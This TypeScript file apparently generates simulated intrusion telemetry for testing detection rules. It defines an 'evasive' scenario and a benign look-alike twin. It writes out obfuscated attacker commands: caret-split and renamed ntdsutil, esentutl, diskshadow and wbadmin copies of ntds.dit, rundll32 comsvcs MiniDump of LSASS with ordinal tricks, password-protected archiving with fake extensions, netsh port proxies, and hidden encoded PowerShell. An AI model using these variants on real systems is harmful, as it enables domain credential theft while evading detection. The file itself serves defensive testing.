/**
 * The same deeds written so that literal rules miss them. What a shell undoes (carets, variables) stands in the shell's
 * own command line alone; the program it starts shows the rest.
 */
import { cleanUp, core, Hands, machinesOf, weak } from '../acts/intruder.ts';
import { readFiles } from '../acts/network.ts';
import { copiedByIfm, copiedFromShadow, memoryDumped, portProxySet } from '../acts/theft.ts';
import { esent } from '../events/index.ts';
import type { Session } from '../session.ts';
import { minute, second } from '../time.ts';
import { oddHabits, promoteFromMedia } from './lookalikes.ts';
import type { Scenario } from './scenario.ts';

const logs = {
  dc: { processes: 'lines', sysmon: true, scripts: true },
  jump: { processes: 'lines', sysmon: true, scripts: true },
} as const;

/** Carets between the letters of words, as nobody types by accident. */
function withCarets(hands: Hands, words: string): string {
  return [...words]
    .map(letter => (/[a-z]/i.test(letter) && hands.random.chance(0.25) ? `^${letter}` : letter))
    .join('');
}

/** Ways to get the directory database; each returns the folder that it lies in. */
const thefts: readonly ((hands: Hands, session: Session, folder: string) => void)[] = [
  (hands, session, folder) => {
    const words = `ntdsutil "ac i ntds" i "cr fu ${folder}" q q`;
    const shell = hands.type(session, 'cmd.exe', `cmd  /c ${withCarets(hands, words)}`, core('VT-CA-01'));
    const tool = session.run(hands.time + 60_000, 'ntdsutil.exe', words, {
      parent: shell,
      note: core('VT-CA-01'),
      life: minute,
    });
    copiedByIfm(session, tool, hands.time + second, folder, core('VT-CA-03'));
  },
  (hands, session, folder) => {
    const renamed = `${folder.slice(0, folder.lastIndexOf('\\'))}\\${hands.random.letters(6)}.exe`;
    const copied = hands.type(
      session,
      'cmd.exe',
      `cmd  /c copy C:\\Windows\\System32\\ntdsutil.exe ${renamed}`,
      weak('VT-CA-01'),
    );
    session.file(hands.time + 20_000, copied, renamed, weak('VT-CA-01'));
    const tool = hands.type(
      session,
      renamed,
      `${renamed} "ac in ntds" "if" "create full ${folder}" q q`,
      core('VT-CA-01'),
      {
        builtAs: 'ntdsutil.exe',
        life: minute,
      },
    );
    copiedByIfm(session, tool, hands.time + second, folder, core('VT-CA-03'));
  },
  (hands, session, folder) => {
    const tool = hands.type(
      session,
      'esentutl.exe',
      `esentutl.exe  /y /vss c:\\windows\\ntds\\ntds.dit /d ${folder}\\n.edb`,
      core('VT-CA-02'),
      { life: minute },
    );
    copiedFromShadow(session, tool, hands.time + 9 * second, `${folder}\\n.edb`, weak('VT-CA-02'));
    const { host } = session.machine;
    const at = hands.time + 8 * second;
    session.machine.write(
      esent.directoryEngine.inShadow(
        host,
        at,
        tool.pid,
        '\\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy4\\Windows\\NTDS\\ntds.dit',
      ),
      session.cause,
      weak('VT-CA-03'),
    );
  },
  (hands, session, folder) => {
    const script = `${folder}.txt`;
    hands.type(
      session,
      'cmd.exe',
      `cmd  /c (echo set context persistent nowriters^&echo add volume c: alias s^&echo create^&echo expose %s% z:)>${script}`,
      weak('VT-CA-02'),
    );
    hands.type(session, 'diskshadow.exe', `diskshadow  /s ${script}`, core('VT-CA-02'));
    const shell = hands.type(
      session,
      'cmd.exe',
      `cmd  /c copy z:\\Windows\\NTDS\\ntds.dit ${folder}\\n.dat`,
      core('VT-CA-02'),
    );
    copiedFromShadow(session, shell, hands.time + 12 * second, `${folder}\\n.dat`, weak('VT-CA-02'));
  },
  (hands, session, folder) => {
    const tool = hands.type(
      session,
      'wbadmin.exe',
      `wbadmin  start backup -backuptarget:\\\\127.0.0.1\\c$\\${folder.slice(3)} -include:C:\\Windows\\NTDS\\ntds.dit,C:\\Windows\\System32\\config\\SYSTEM -quiet`,
      core('VT-CA-02'),
      { life: 5 * minute },
    );
    copiedFromShadow(
      session,
      tool,
      hands.time + 70 * second,
      `${folder}\\WindowsImageBackup\\ntds.vhdx`,
      weak('VT-CA-02'),
    );
  },
];

/** Ways to write that the LSA's memory be dumped. */
function dump(hands: Hands, session: Session, path: string): void {
  const lsass = session.machine.lsass(hands.time);
  const ordinal = hands.random.pick(['#24', '#+24', '#-65512', ',#24']);
  const words = hands.random.pick([
    `rundll32.exe  C:\\windows\\System32\\comsvcs.dll ${ordinal} ${lsass} ${path} full`,
    `rundll32.exe  "C:\\Windows\\System32\\..\\System32\\comsvcs.dll",${ordinal} ${lsass} "${path}" full`,
    `"rundll32"   c:\\WINDOWS\\SYSTEM32\\COMSVCS.DLL , "MiniDump"   ${lsass}  ${path}   full`,
  ]);
  const tool = hands.type(session, 'rundll32.exe', words, core('VT-CA-05'));
  memoryDumped(session, tool, hands.time + 300_000, path, core('VT-CA-05'));
}

function packOddly(hands: Hands, session: Session, folder: string): string {
  const { password } = hands.things;
  const base = folder.slice(0, folder.lastIndexOf('\\'));
  const tool = `${base}\\${hands.random.letters(4)}.exe`;
  const archive = `${base}\\${hands.random.letters(5)}.${hands.random.pick(['log', 'gif', 'dat', 'cab'])}`;
  const [builtAs, words] = hands.random.pick<readonly [string, string]>([
    ['rar.exe', `${tool} a -hp${password} -v25m -k -r -s ${archive} ${folder}\\*`],
    ['7z.exe', `${tool}  a  -mx9 -t7z "-p${password}" "${archive}" "${folder}"`],
    ['7za.exe', `"${tool}" a –p${password} –v20m ${archive} ${folder}`],
  ]);
  const packed = hands.type(session, tool, words, core('VT-ST-02'), { builtAs, life: minute });
  session.file(hands.time + 400_000, packed, archive, weak('VT-ST-02'));
  return archive;
}

function proxy(hands: Hands, session: Session, to: string): void {
  const port = hands.random.whole(8000, 9500);
  const words = hands.random.pick([
    `netsh  i p a v l=${port} listena=0.0.0.0 connectp=3389 c=${to}`,
    `netsh  int portp add v4tov4 listenport=${port} connecta=${to} connectport=3389`,
    `"netsh"  "interface" "portproxy" "add" "v4tov4" "listenport=${port}" "connectaddress=${to}" "connectport=3389"`,
  ]);
  const netsh = hands.type(session, 'netsh.exe', words, core('VT-C2-01'));
  const rule = { listen: `*/${port}`, connect: `${to}/3389` };
  portProxySet(session, netsh, hands.time + 100_000, rule, core('VT-C2-02'));
}

export const evasive: Scenario = {
  name: 'evasive',
  twin: 'evasive-quiet',
  kind: 'intrusion',
  state: 'open',
  summary:
    'abbreviations, carets, quotes, short names, long dashes, renamed programs, ordinals, other tools for NTDS',
  days: 30,
  site: { logs },
  play(world) {
    const { dc, jump } = machinesOf(world);
    const person = world.site.admins[1]!;
    const admin = person.admin!;
    const hands = new Hands(
      world,
      'evasive',
      'an intruder who writes every command so that literal rules miss it took memory and directory',
      world.calendar.at(world.dayAt(0.6), 1 + world.random.next() * 20),
    );
    const tunnel = hands.enter(person.account.name, world.outside.address());
    const outer = hands.desktop({ origin: tunnel.inner, to: jump, account: admin, note: weak('VT-LM-04') });
    hands.type(outer, 'net.exe', '"net"  "gr"oup "domain admins" /do', weak('VT-DI-03'));
    const encoded = Buffer.from('Get-Date', 'utf16le').toString('base64');
    hands.type(
      outer,
      'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      `powershell  –exec bypass –W hidden –nop –E ${encoded}`,
      core('VT-CA-06'),
    );
    dump(hands, outer, `${hands.things.folder}.tmp`);
    proxy(hands, outer, dc.host.address);
    const session = hands.desktop({
      from: outer,
      to: dc,
      account: admin,
      byAddress: true,
      note: weak('VT-LM-04'),
    });
    hands.random.pick(thefts)(hands, session, hands.things.folder);
    hands.pause(100, 500);
    const archive = packOddly(hands, session, hands.things.folder);
    readFiles(world, {
      to: dc,
      account: admin,
      origin: world.originOf(jump),
      time: hands.pause(60, 400),
      share: 'C$',
      files: [{ file: archive.slice(3), note: core('VT-ST-06') }],
      cause: hands.cause,
    });
    hands.pause(200, 600);
    cleanUp(hands, session, hands.things.folder, archive);
    hands.closeDesktop(session);
    hands.closeDesktop(outer);
    hands.leave(tunnel);
  },
};

export const evasiveQuiet: Scenario = {
  name: 'evasive-quiet',
  twin: 'evasive',
  kind: 'quiet',
  state: 'open',
  summary:
    'administrators and vendor scripts that abbreviate, quote oddly, use short names and the same rare tools',
  days: 30,
  site: { logs, habits: { ifmBackup: true, nightlyArchive: true, logonReport: true, wslProxy: true } },
  play(world) {
    oddHabits(world);
    promoteFromMedia(world, 0.45);
  },
};
